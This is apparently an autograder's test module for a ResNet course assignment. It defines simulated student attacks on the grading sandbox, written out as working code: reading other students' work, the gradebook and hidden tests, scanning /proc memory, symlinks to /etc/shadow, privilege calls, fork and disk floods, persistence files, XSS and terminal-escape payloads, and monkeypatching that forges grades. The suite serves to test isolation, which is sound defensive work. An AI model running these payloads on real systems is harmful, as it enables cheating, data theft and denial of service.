"""The attacks: what each tries, what must happen, and how it is done.

Each is a right answer to assignment 2 with something done to it. Most print what they got hold of. They are harmless
where a wall fails: forks, files and connections are few and bounded, nothing is deleted, and signals go to a process
that waits for them. ``$NAMES`` are filled in when the class is made.
"""

import json
from dataclasses import dataclass
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell

from .work import Edit, File, above, answer_cell, bare, cell, drop, in_test, swap

LOOK = """
import glob, os
found = []
def look(path):
    try:
        with open(path, "rb") as file:
            found.append(f"{path}: {file.read(4000)!r}")
    except OSError:
        pass
"""
FILES = f"""{LOOK}
roots = ["$COURSE", "$PLACE", "$COURSE/..", "/proc/1/root$COURSE", "/proc/1/cwd", "..", "../..", "/root", "/tmp"]
for root in [*roots, *__import__("resnet_course").__path__]:
    for one in {{patterns}}:
        for path in glob.glob(os.path.join(root, one)):
            look(path)
print("found:", found)
"""
OTHERS = FILES.replace("{patterns}", '["submitted/*/*/*.ipynb", "handed/*/*", "autograded/*/*/*.ipynb", "rt-*/*"]')
BOOKS = FILES.replace("{patterns}", '["gradebook.db", "students.csv", "grades.csv", "nbgrader_config.py"]')
TESTS = FILES.replace("{patterns}", '["source/*/*.ipynb", "assignments/*/*.ipynb", "generated/*/*.ipynb"]') + (
    """
import gc, inspect, sys
for frame in sys._current_frames().values():
    while frame:
        found += [k for k, x in frame.f_locals.items() if isinstance(x, str) and "HIDDEN" + " TESTS" in x]
        frame = frame.f_back
print("frames:", [one for one in found if len(one) < 50])
"""
)
PARENTS = f"""{LOOK}
me, canary = os.getpid(), "$BACKWARDS"[::-1]
for one in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "maps"):
        try:
            text = open(f"/proc/{{one}}/{{name}}", "rb").read()
            found += [f"{{one}}/{{name}}"] if canary.encode() in text and int(one) != me else []
        except OSError:
            pass
    try:
        with open(f"/proc/{{one}}/mem", "rb") as memory:
            found += [f"{{one}}/mem"] if int(one) != me else []
    except OSError:
        pass
found += [k for k, x in os.environ.items() if canary in x]
print("found:", found)
"""
NETWORK = """
import socket
found = []
for kind, name in ((socket.SOCK_STREAM, "tcp"), (socket.SOCK_DGRAM, "udp")):
    for host in ("127.0.0.1", "localhost", "$ADDRESS"):
        try:
            with socket.socket(socket.AF_INET, kind) as one:
                one.settimeout(2)
                one.connect((host, $PORT))
                one.send(b"out")
                found.append(f"{name} {host}")
        except OSError:
            pass
try:
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("\\0$MARK")
        found.append("abstract")
except OSError:
    pass
print("found:", found)
"""
FORKS = """
import os, time
made, refused = 0, False
for _ in range(300):
    try:
        pid = os.fork()
    except OSError:
        refused = True
        break
    if pid == 0:
        time.sleep(300)
        os._exit(0)
    made += 1
print("refused:", refused and made < 200)
"""
DISK = """
import os
written, full = 0, 0
for folder in (os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp"):
    try:
        with open(os.path.join(folder, "$MARK"), "wb") as file:
            for _ in range(300):
                file.write(bytes(1 << 20))
                written += 1
    except OSError:
        full += 1
print("refused:", full >= 3 and written < 600)
"""
WRITES = """
import os, torch, resnet_tutorial
found = []
package = os.path.dirname(resnet_tutorial.__file__)
for folder in ("$COURSE", "$COURSE/release", "$PLACE", "$PLACE/..", "/root", "/var/tmp", "/usr/local/bin", "/usr/lib",
               package, os.path.dirname(torch.__file__), "/proc/1/root/tmp", "/etc"):
    try:
        with open(os.path.join(folder, "$MARK-outside"), "w") as file:
            file.write("here")
        found.append(folder)
    except OSError:
        pass
print("found:", found)
"""
KILLS = """
import os, signal
found = []
try:
    os.kill($VICTIM, signal.SIGKILL)
    found.append("killed")
except OSError:
    pass
for one in map(int, filter(str.isdigit, os.listdir("/proc"))):
    try:
        os.kill(one, 0)
        found += [one] if "ipykernel" not in open(f"/proc/{one}/cmdline").read() else []
    except OSError:
        pass
print("found:", found)
"""
STAYS = """
import subprocess, sys
code = "import os, time; os.setsid() if os.fork() == 0 else os._exit(0); time.sleep(3000) # $MARK"
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
print("started")
"""
LINKS = """
import os
home, found = os.path.expanduser("~"), []
for i, path in enumerate(("$COURSE/gradebook.db", "$COURSE/source", "$PLACE", "/etc/shadow", "/proc/1/root/root")):
    link = os.path.join(home, f"link-{i}")
    os.symlink(path, link)
    try:
        found.append(os.listdir(link) if os.path.isdir(link) else open(link, "rb").read(100))
    except OSError:
        pass
print("found:", found)
"""
RIGHTS = """
import ctypes, os
found, libc = [], ctypes.CDLL(None, use_errno=True)
for name, call in {
    "setuid": lambda: libc.setuid(0),
    "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
    "remount": lambda: libc.mount(None, os.path.dirname(os.__file__).encode(), None, 4096 | 32, None),
    "chroot": lambda: libc.chroot(b"/proc/1/root"),
    "device": lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(8, 0)),
    "ptrace": lambda: libc.ptrace(16, 1, 0, 0),
}.items():
    try:
        found += [name] if call() == 0 or name == "device" else []
    except OSError:
        pass
print("found:", found)
"""
SYSTEM_CALLS = """
import ctypes, os, socket
found, libc = [], ctypes.CDLL(None, use_errno=True)
for name, call in {
    "namespace": lambda: libc.unshare(0x10000000),
    "memory that no limit counts": lambda: libc.memfd_create(b"x", 0),
    "shared memory": lambda: libc.shmget(0, 1 << 20, 0o1600),
}.items():
    found += [name] if call() >= 0 else []
for family in (40, 38, 17):  # virtual machines, the kernel's crypto, raw packets
    try:
        socket.socket(family, socket.SOCK_STREAM if family == 40 else socket.SOCK_RAW)
        found.append(family)
    except OSError:
        pass
print("found:", found)
"""
FLOODS = """
kernel = get_ipython().kernel
for _ in range(2000):
    kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": ""}, buffers=[bytes(1 << 20)])
print("sent")
raise ValueError("x" * 60_000_000)
"""
SCRIPTS = """
from IPython.display import HTML, Javascript, Markdown, display
attack = "document.documentElement.className = 'SCRIPT-RAN'"
display(HTML(f"<script>{attack}</script><img src=x onerror=\\"{attack}\\"><svg onload=\\"{attack}\\"></svg>"))
display(HTML(f"<iframe srcdoc=\\"<script>parent.{attack}</script>\\"></iframe>"))
display(HTML("<style>body{background:url(http://127.0.0.1:$PORT/css)}</style><img src='http://127.0.0.1:$PORT/img'>"))
display(Javascript(attack))
display(Markdown(f"<script>{attack}</script>"))
print("</pre></div><script>" + attack + "</script>")
print("20 of 20 points")
"""
FILES_WITHOUT_END = """
import os, socket
files, pairs = 0, []
try:
    while files < 100_000:
        os.mknod(f"/tmp/{files}")
        files += 1
except OSError:
    pass
try:
    while len(pairs) < 5_000:
        pairs.append(socket.socketpair())
except OSError:
    pass
print("refused:", files < 100_000 and len(pairs) < 5_000)
del pairs
for file in range(files):  # the tests below need some
    os.remove(f"/tmp/{file}")
"""
PROCESSORS = """
import os, time
try:
    os.sched_setaffinity(0, range(os.cpu_count()))
except OSError:
    pass
for _ in range(40):  # each further start waits for all before it: more would keep this cell from its end
    if os.fork() == 0:
        os.setsid()
        ends = time.time() + 15
        while time.time() < ends:
            pass
        os._exit(0)
print("own:", len(os.sched_getaffinity(0)) < os.cpu_count())
"""
ELSEWHERE = """
import os, time
kernel, attack = get_ipython().kernel, "<script>document.documentElement.className='SCRIPT-RAN'</script>"
def send(kind, **content):
    kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())
send("comm_open", comm_id="x", target_name="jupyter.widget", data={"state": {"x": attack}})
send("execute_input", code="", execution_count=attack)
time.sleep(1)
os._exit(0)
"""
IN_FORMULAS = r"""
from IPython.display import HTML, display
display(HTML(r"<p>$\text{&lt;meta/http-equiv=refresh/content=0;url=http://127.0.0.1:$PORT/&gt;}$</p>"))
display(HTML(r"<p>$\href{javascript:document.documentElement.className='SCRIPT-RAN'}{x}$</p>"))
"""
SLOW_TO_READ = """
from IPython.display import HTML, display
kernel = get_ipython().kernel
for _ in range(20):
    display(HTML("<ul><li>" * 20_000))
    error = {"ename": "Error", "evalue": "x", "traceback": ["y" * 10_000] * 100}
    kernel.session.send(kernel.iopub_socket, "error", error, parent=kernel.get_parent())
"""
TO_A_TERMINAL = "raise ValueError('\\x1b]8;;http://127.0.0.1:$PORT\\x07click\\x1b[2J\\rhaddad: 20 of 20 points')"
IN_PART = """
import sys
report = sys.modules["resnet_course.checks.report"]
begin = report.Result.__init__
report.Result.__init__ = lambda self, task, points, possible, found: begin(self, task, possible - 0.01, possible, found)
"""
STAYS_FOR_THE_NEXT = f"""{LOOK}
for path in ("~/.ipython/profile_default/startup/0.py", "~/.config/matplotlib/matplotlibrc", "/tmp/sitecustomize.py",
             "~/.local/lib/python3.11/site-packages/usercustomize.py", "/tmp/$MARK.pth", "/dev/shm/$MARK"):
    path = os.path.expanduser(path)
    look(path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write("print('stayed')")
print("found:", found)
"""
SHORT = """
def tell(info):
    if "width = 6" in info.raw_cell:
        print("told:", info.raw_cell)
get_ipython().events.register("pre_run_cell", tell)
"""
SPINS = """
import threading
def spin():
    while True:
        pass
threading.Thread(target=spin, daemon=True).start()
"""
EVENTS = """
def tell(info):
    print("told:", info.raw_cell)
get_ipython().events.register("pre_run_cell", tell)
"""
REPLACED = """
import sys
report = sys.modules["resnet_course.checks.report"]
begin = report.Result.__init__
report.Result.__init__ = lambda self, task, points, possible, findings: begin(self, task, possible, possible, ())
"""
IN_DISGUISE = """
import base64
def tell(info):
    print("told:", base64.b64encode(info.raw_cell.encode()).decode())
get_ipython().events.register("pre_run_cell", tell)
"""


@dataclass(frozen=True)
class Attack:
    """What one student does.

    Attributes:
        tries: in a few words.
        must: what the student's page must show.
        edits: what is done to a right answer.
        points: what it must earn, of 20.
        file: how the notebook becomes a file; None for a link to somebody's.
        ending: of the file's name.
        held: False for what is known not to be held, and stands in the book's page on safety.
    """

    tries: str
    must: str = ""
    edits: tuple[Edit, ...] = ()
    points: float = 20
    file: File | None = bare
    ending: str = "ipynb"
    held: bool = True


def stale(notebook: Any) -> None:
    """Outputs that claim more than the answers earn."""
    for one in notebook.cells:
        if one.cell_type == "code":
            shown = nbformat.v4.new_output("execute_result", data={"text/plain": "100"}, execution_count=1)
            one.outputs = [shown]


def raised(notebook: Any) -> None:
    """Metadata that open the locks, and give tests more points."""
    for one in notebook.cells:
        if about := one.metadata.get("nbgrader"):
            about.update({"points": 100} if "points" in about else {}, locked=False)


def twice(notebook: Any) -> None:
    """An early attempt above the last one."""
    early = answer_cell(notebook, "zero_pad").copy()
    early.update(id="early", source="def zero_pad(x, channels, stride):\n    return x")
    notebook.cells.insert(notebook.cells.index(answer_cell(notebook, "zero_pad")), early)


def unnamed(notebook: Any) -> None:
    del answer_cell(notebook, "zero_pad").metadata["nbgrader"]


def named(student: str) -> Edit:
    """Somebody else's name in the notebook."""
    return lambda notebook: next(c for c in notebook.cells if "student" in c.metadata.get("tags", [])).update(
        source=f'STUDENT = "{student}"'
    )


def cut(notebook: Any) -> bytes:
    """Behind the first answer."""
    data = bare(notebook)
    return data[: data.index(b"class BasicBlock")]


def below(*cells: Any) -> Edit:
    """Cells at the end."""
    return lambda notebook: notebook.cells.extend(one.copy() for one in cells)


ZEROS = swap("zero_pad", "new // 2, new - new // 2", "0, new")  # earns 15.6
PUT_BACK = "were changed; the ones that you were given were put back"
LAST = "start_as_identity"  # the last task, of 3 points


def in_pad(code: str) -> tuple[Edit, ...]:
    """A line at the beginning of the function that tasks 1 and 3 call."""
    return (swap("zero_pad", "    new =", f"    {code}\n    new ="),)


ATTACKS = [
    # On what is not theirs.
    Attack("reads the work of others", "found: []", (cell(OTHERS),)),
    Attack("reads gradebook and class list", "found: []", (cell(BOOKS),)),
    Attack("reads the hidden tests", "frames: []", (cell(TESTS),)),
    Attack("reads memory and environment of other processes", "found: []", (cell(PARENTS),)),
    Attack("goes online", "found: []", (cell(NETWORK),)),
    Attack("writes outside its home", "found: []", (cell(WRITES),)),
    Attack("kills other processes", "found: []", (cell(KILLS),)),
    Attack("follows links", "found: []", (cell(LINKS),)),
    Attack("asks for more rights", "found: []", (cell(RIGHTS),)),
    Attack("makes namespaces, uncounted memory, odd sockets", "found: []", (cell(SYSTEM_CALLS),)),
    Attack("hands in a link to a friend's file", file=None, points=0),
    # On the machine.
    Attack("forks 300 times", "refused: True", (cell(FORKS),)),
    Attack("fills the disk", "refused: True", (cell(DISK),)),
    Attack("leaves a process behind", "started", (cell(STAYS),)),
    Attack("sends two gigabytes and an endless error", "sent", (cell(FLOODS),)),
    Attack("makes files and sockets without end", "refused: True", (cell(FILES_WITHOUT_END),)),
    Attack("takes the processors of others", "own: True", (cell(PROCESSORS),)),
    Attack("leaves files for who comes next", "found: []", (cell(STAYS_FOR_THE_NEXT),)),
    Attack("leaves files for who comes next, and looks", "found: []", (cell(STAYS_FOR_THE_NEXT),)),
    Attack(
        "takes long to read",
        "was cut off",
        (cell(SLOW_TO_READ), cell("+".join(["1"] * 2000)), below(new_markdown_cell("\\" * 10**6))),
    ),
    Attack("asks for 4 TB", "far more memory", in_pad("torch.zeros(10**12)"), 13.8),
    Attack(
        "hoards", "MemoryError", (above(LAST, "hoard = []\nwhile True:\n    hoard.append(bytearray(1 << 26))"),), 17
    ),
    Attack("prints without end", "", (above(LAST, "while True:\n    print('x' * 5000)"),), 17),
    Attack("loops at the top of a cell", "still running", (above(LAST, "while True:\n    pass"),), 17),
    Attack("loops in a function", "Does every loop come to an end", in_pad("while True: pass"), 15),
    Attack(
        "loops in forward",
        "come to an end",
        (swap("PaddedBlock", "        out =", "        while True: pass\n        out ="),),
        16,
    ),
    Attack("loops in a thread", edits=(cell(SPINS),)),
    Attack(
        "ignores interrupts",
        "could not be interrupted",
        (above(LAST, "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass"),),
        17,
    ),
    Attack("waits for input", "StdinNotImplementedError", (above(LAST, "input('go on?')"),), 17),
    # On the kernel: what stands behind it does not run.
    Attack("syntax error", "SyntaxError", (swap("BasicBlock", "super().__init__()", "super().__init__("),), 11),
    Attack("imports what is not there", "ModuleNotFoundError", (above("zero_pad", "import tensorflow"),), 13.8),
    Attack(
        "wrong shape in forward", "RuntimeError", (swap("BasicBlock", "self.conv2(out)", "self.conv2(x[:, :1])"),), 12.2
    ),
    Attack("recursion without end", "RecursionError", in_pad("return zero_pad(x, channels, stride)"), 13.8),
    Attack("sys.exit in a function", "asks Python to quit", in_pad("import sys; sys.exit(0)"), 13.8),
    Attack("exit() in a cell", "The kernel ended", (above("PaddedBlock", "exit()"),), 9),
    Attack("os._exit in a function", "The kernel ended", in_pad("import os; os._exit(0)"), 0),
    Attack("segmentation fault", "The kernel ended", (above("PaddedBlock", "import ctypes; ctypes.string_at(0)"),), 9),
    # On the points.
    Attack("clears tests", PUT_BACK, (in_test("zero_pad", ""), in_test("BasicBlock", ""))),
    Attack(
        "writes tests that give all", PUT_BACK, (ZEROS, in_test("zero_pad", "3.0"), in_test("PaddedBlock", "4.0")), 15.6
    ),
    Attack("raises points, opens locks", "behind the old ones", (ZEROS, raised), 15.6),
    Attack("outputs that claim 100 points", "behind the old ones", (ZEROS, stale), 15.6),
    Attack(
        "numbers of a friend",
        "parameters_a",
        (swap("predict", "c, d, positions = v.width", 'v = checks.variant("$FRIEND")\n    c, d, positions = v.width'),),
        16,
    ),
    Attack("the name of a friend", "parameters_b", (named("$FRIEND"), swap("predict", "3 * 2 * d", "2 * 2 * d")), 19.2),
    Attack("replaces the points in its own kernel", "Asked again, with other inputs", (ZEROS, cell(REPLACED)), 13),
    Attack("forges nearly all points", edits=(ZEROS, cell(IN_PART)), points=19.95, held=False),
    # On what others look at.
    Attack("prints scripts and a forged result", "20 of 20 points", (cell(SCRIPTS),)),
    Attack("prints a marker of the hidden tests", "BEGIN HIDDEN TESTS", (cell("print('### BEGIN HIDDEN TESTS')"),)),
    Attack("sends scripts past the outputs", "The kernel ended", (below(new_code_cell(ELSEWHERE)),)),
    Attack("hides an address in a formula", "url=http", (cell(IN_FORMULAS),)),
    Attack("speaks to the instructor's terminal", "haddad", (above(LAST, TO_A_TERMINAL),), 17),
    Attack("prints a short hidden test", "held text of the tests", (cell(SHORT),)),
    Attack("prints every cell that runs", "held text of the tests", (cell(EVENTS),)),
    Attack("prints the hidden tests in disguise", "told: ", (cell(IN_DISGUISE),), held=False),
    # Files that would stop a class.
    Attack("a text", "could not be read as a notebook", points=0, file=lambda _: b"my homework"),
    Attack("an empty file", "it is empty", points=0, file=lambda _: b""),
    Attack("a file that is cut off", "taken in as far as it can be read", points=3, file=cut),
    Attack(
        "a script",
        "could not be read as a notebook",
        points=0,
        ending="py",
        file=lambda n: "\n".join(c.source for c in n.cells).encode(),
    ),
    Attack(
        "ends of lines of Windows, a byte order mark",
        file=lambda n: json.dumps(n).replace("\\n", "\\r\\n").encode("utf-8-sig"),
    ),
    Attack("a test deleted", "zeros-test was deleted", (drop("zero_pad", test=True),)),
    Attack("an answer deleted", "identity-answer was deleted", (drop(LAST),), 17),
    Attack("an answer without its name", "no longer marked", (unnamed,)),
    Attack("two attempts in one file", "the last one counts", (twice,)),
    Attack(
        "a function renamed",
        "zero_pad is not defined in your answer",
        (swap("zero_pad", "def zero_pad", "def pad_zeros"),),
        13.8,
    ),
]
# Whoever attacks nothing: a right answer, one mistake, two tasks that are missing, nothing at all.
OTHERS_IN_CLASS = [
    Attack("right"),
    Attack("zeros at the end", "behind the old ones", (ZEROS,), 15.6),
    Attack("two tasks are missing", "NotImplementedError", (drop("predict"), drop(LAST)), 13),
    Attack(
        "nothing written",
        "NotImplementedError",
        tuple(drop(n) for n in ("zero_pad", "BasicBlock", "PaddedBlock", "predict", LAST)),
        0,
    ),
]
